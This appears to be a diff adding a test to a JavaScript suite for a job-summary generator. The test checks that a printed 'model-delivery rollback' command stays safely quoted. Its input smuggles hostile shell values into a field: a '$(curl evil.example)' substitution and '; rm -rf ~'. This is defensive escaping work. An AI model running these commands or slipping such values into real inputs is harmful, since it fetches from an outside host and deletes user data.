@@ -98,6 +98,14 @@ describe('the job summary', () => {
     expect(markdown).toContain('a \\| b ## &lt;img src=x> \\`c\\` \\[d\\](e)');
   });
 
+  it('prints a command that stays one, whatever the inputs say', () => {
+    const asked = { manifest: 'a b.yml', environment: '$(curl evil.example)`; rm -rf ~|' };
+    const markdown = summaryOf(report({}, { asked }));
+    expect(markdown).toContain(
+      "``model-delivery rollback --manifest 'a b.yml' --environment '$(curl evil.example)`; rm -rf ~``\\|`'`",
+    );
+  });
+
   it('stays below 1 MiB and says that it was cut', () => {
     const timeline = Array.from({ length: 20_000 }, (_, at) => ({ at, percent: 1, because: `é${'x'.repeat(60)}` }));
     const markdown = summaryOf(report({}, { timeline }));
